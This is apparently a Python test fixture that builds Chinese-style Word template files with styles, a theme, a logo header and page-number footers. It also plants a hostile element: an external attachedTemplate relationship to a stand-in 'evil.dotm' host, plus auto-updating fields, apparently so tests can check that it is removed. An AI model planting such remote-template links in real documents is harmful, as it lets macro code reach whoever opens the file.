"""Word files as people bring them for templates, made here: as Chinese Word saves them, and with what does harm."""

from __future__ import annotations

from reportgen.word.ooxml.archive import pack
from reportgen.word.ooxml.xml import NAMESPACES
from tests.word.documents import picture

_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_WML = "application/vnd.openxmlformats-officedocument.wordprocessingml"
_DRAWING = (
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
)


def style(
    style_id: str, name: str, *, level: int = 0, based: str = "a", size: int = 0, more: str = "", ppr: str = ""
) -> str:
    """A paragraph style; `more` stands in its run properties."""
    outline = f'<w:outlineLvl w:val="{level - 1}"/>' if level else ""
    sizes = f'<w:sz w:val="{size}"/><w:szCs w:val="{size}"/>' if size else ""
    base = f'<w:basedOn w:val="{based}"/>' if based else ""
    default = "" if based else ' w:default="1"'
    return (
        f'<w:style w:type="paragraph"{default} w:styleId="{style_id}"><w:name w:val="{name}"/>{base}<w:qFormat/>'
        f"<w:pPr>{ppr}{outline}</w:pPr><w:rPr>{more}{sizes}</w:rPr></w:style>"
    )


def theme_font(group: str) -> str:
    """Fonts as Word's own styles take them from the theme."""
    return (
        f'<w:rFonts w:asciiTheme="{group}HAnsi" w:eastAsiaTheme="{group}EastAsia" w:hAnsiTheme="{group}HAnsi" '
        f'w:cstheme="{group}Bidi"/>'
    )


CHINESE_STYLES = (
    f"<w:styles {NAMESPACES}><w:docDefaults><w:rPrDefault><w:rPr>{theme_font('minor')}"
    '<w:sz w:val="24"/><w:szCs w:val="24"/><w:lang w:val="en-US" w:eastAsia="ja-JP" w:bidi="ar-SA"/></w:rPr>'
    "</w:rPrDefault><w:pPrDefault/></w:docDefaults>"
    + style("a", "正文", based="", ppr='<w:spacing w:line="440" w:lineRule="exact"/><w:jc w:val="both"/>')
    + style("1", "标题 1", level=1, size=36, more=theme_font("major") + '<w:b/><w:color w:val="9C1C24"/>',
            ppr='<w:keepNext/><w:numPr><w:numId w:val="7"/></w:numPr><w:spacing w:before="360" w:after="200"/>')
    + style("2", "标题 2", level=2, size=28, more='<w:b/><w:color w:val="9C1C24"/>', ppr="<w:keepNext/>")
    + style("a3", "公司三级", level=3, size=24, more="<w:b/>", ppr="<w:keepNext/>")
    + style("a4", "正文缩进", ppr='<w:ind w:firstLineChars="200" w:firstLine="480"/>')
    + style("a5", "题注", size=20, more='<w:color w:val="9C1C24"/>', ppr='<w:jc w:val="center"/>')
    + style("a6", "页眉", size=18)
    + style("a7", "页脚", size=18, ppr='<w:jc w:val="center"/>')
    + style("a8", "部门落款", more="<w:i/>", ppr='<w:jc w:val="right"/>')
    + "</w:styles>"
)  # fmt: skip

THEME = (
    '<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="公司"><a:themeElements>'
    '<a:clrScheme name="c"><a:dk1><a:srgbClr val="000000"/></a:dk1><a:lt1><a:srgbClr val="FFFFFF"/></a:lt1>'
    '<a:dk2><a:srgbClr val="44546A"/></a:dk2><a:lt2><a:srgbClr val="E7E6E6"/></a:lt2>'
    '<a:accent1><a:srgbClr val="9C1C24"/></a:accent1><a:accent2><a:srgbClr val="8A5A2B"/></a:accent2>'
    '<a:accent3><a:srgbClr val="5E6B3A"/></a:accent3><a:accent4><a:srgbClr val="3B5B7A"/></a:accent4>'
    '<a:accent5><a:srgbClr val="6B4C7A"/></a:accent5><a:accent6><a:srgbClr val="B07A1E"/></a:accent6>'
    '<a:hlink><a:srgbClr val="0563C1"/></a:hlink><a:folHlink><a:srgbClr val="954F72"/></a:folHlink></a:clrScheme>'
    '<a:fontScheme name="f"><a:majorFont><a:latin typeface="Arial"/><a:ea typeface=""/><a:cs typeface=""/>'
    '<a:font script="Hans" typeface="黑体"/></a:majorFont><a:minorFont><a:latin typeface="Times New Roman"/>'
    '<a:ea typeface=""/><a:cs typeface=""/><a:font script="Hans" typeface="仿宋"/></a:minorFont></a:fontScheme>'
    '<a:fmtScheme name="m"><a:fillStyleLst>{0}{0}{0}</a:fillStyleLst><a:lnStyleLst><a:ln>{0}</a:ln><a:ln>{0}</a:ln>'
    "<a:ln>{0}</a:ln></a:lnStyleLst><a:effectStyleLst>{1}{1}{1}</a:effectStyleLst><a:bgFillStyleLst>{0}{0}{0}"
    "</a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>"
).format('<a:solidFill><a:schemeClr val="phClr"/></a:solidFill>', "<a:effectStyle><a:effectLst/></a:effectStyle>")

LOGO = (
    '<w:p><w:pPr><w:pStyle w:val="a6"/></w:pPr><w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0">'
    '<wp:extent cx="1080000" cy="240000"/><wp:docPr id="1" name="图片 1"/><a:graphic>'
    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>'
    '<pic:cNvPr id="1" name="logo.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="rId1"/>'
    '<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/>'
    '<a:ext cx="1080000" cy="240000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>'
    "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r><w:r><w:t>  某某集团</w:t></w:r></w:p>"
)


def page_footer(align: str) -> str:
    """A page number between dashes, as official papers have it."""
    field = '<w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>'
    return (
        f'<w:p><w:pPr><w:pStyle w:val="a7"/><w:jc w:val="{align}"/></w:pPr>'
        '<w:r><w:t xml:space="preserve">— </w:t></w:r>'
        f'{field}<w:r><w:t xml:space="preserve"> —</w:t></w:r></w:p>'
    )


CHINESE_BODY = (
    '<w:p><w:pPr><w:pStyle w:val="1"/></w:pPr><w:r><w:t>示例标题</w:t></w:r></w:p>'
    '<w:p><w:pPr><w:pStyle w:val="a4"/></w:pPr><w:r><w:t>样文内容，不应带入新文件。</w:t></w:r></w:p>'
    '<w:sectPr><w:headerReference w:type="default" r:id="rId5"/><w:headerReference w:type="even" r:id="rId5"/>'
    '<w:footerReference w:type="default" r:id="rId6"/><w:footerReference w:type="even" r:id="rId7"/>'
    '<w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="2098" w:right="1474" w:bottom="1984" w:left="1588" '
    'w:header="851" w:footer="992" w:gutter="0"/><w:cols w:space="720"/>'
    '<w:docGrid w:type="lines" w:linePitch="312"/></w:sectPr>'
)

REMOTE = ("attachedTemplate", "http://templates.example/evil.dotm")


def relations(*entries: tuple[str, str, str], remote: tuple[str, str] | None = None) -> str:
    """A part's relations: (id, kind, target), and one that leads out of the file."""
    listed = "".join(f'<Relationship Id="{key}" Type="{_REL}/{kind}" Target="{to}"/>' for key, kind, to in entries)
    if remote:
        listed += f'<Relationship Id="rId99" Type="{_REL}/{remote[0]}" Target="{remote[1]}" TargetMode="External"/>'
    return f'{_HEAD}<Relationships xmlns="{_PACKAGE}/relationships">{listed}</Relationships>'


def _types(**parts: str) -> str:
    listed = "".join(
        f'<Override PartName="/word/{name.replace("__", "/")}.xml" ContentType="{kind}"/>'
        for name, kind in parts.items()
    )
    return (
        f'{_HEAD}<Types xmlns="{_PACKAGE}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
        f"{listed}</Types>"
    )


def master_file(styles: str = CHINESE_STYLES, body: str = CHINESE_BODY, header: str = LOGO) -> bytes:
    """A .docx as Chinese Word saves it, with a logo, page numbers left and right, and an old compatibility mode."""
    files = {
        "[Content_Types].xml": _types(
            document=f"{_WML}.document.main+xml",
            styles=f"{_WML}.styles+xml",
            settings=f"{_WML}.settings+xml",
            header1=f"{_WML}.header+xml",
            footer1=f"{_WML}.footer+xml",
            footer2=f"{_WML}.footer+xml",
            theme__theme1="application/vnd.openxmlformats-officedocument.theme+xml",
        ),
        "_rels/.rels": relations(("rId1", "officeDocument", "word/document.xml")),
        "word/document.xml": f"{_HEAD}<w:document {NAMESPACES}><w:body>{body}</w:body></w:document>",
        "word/_rels/document.xml.rels": relations(
            ("rId1", "styles", "styles.xml"),
            ("rId2", "settings", "settings.xml"),
            ("rId3", "theme", "theme/theme1.xml"),
            ("rId5", "header", "header1.xml"),
            ("rId6", "footer", "footer1.xml"),
            ("rId7", "footer", "footer2.xml"),
        ),
        "word/styles.xml": _HEAD + styles,
        "word/settings.xml": f'{_HEAD}<w:settings {NAMESPACES}><w:attachedTemplate r:id="rId99"/>'
        '<w:updateFields w:val="true"/>'
        '<w:evenAndOddHeaders/><w:compat><w:compatSetting w:name="compatibilityMode" '
        'w:uri="http://schemas.microsoft.com/office/word" w:val="14"/></w:compat></w:settings>',
        "word/_rels/settings.xml.rels": relations(remote=REMOTE),
        "word/theme/theme1.xml": _HEAD + THEME,
        "word/header1.xml": f"{_HEAD}<w:hdr {NAMESPACES} {_DRAWING}>{header}</w:hdr>",
        "word/_rels/header1.xml.rels": relations(("rId1", "image", "media/image1.png")),
        "word/footer1.xml": f"{_HEAD}<w:ftr {NAMESPACES}>{page_footer('right')}</w:ftr>",
        "word/footer2.xml": f"{_HEAD}<w:ftr {NAMESPACES}>{page_footer('left')}</w:ftr>",
    }
    parts = [(name, text.encode()) for name, text in files.items()]
    return pack([*parts, ("word/media/image1.png", picture(20).png)])
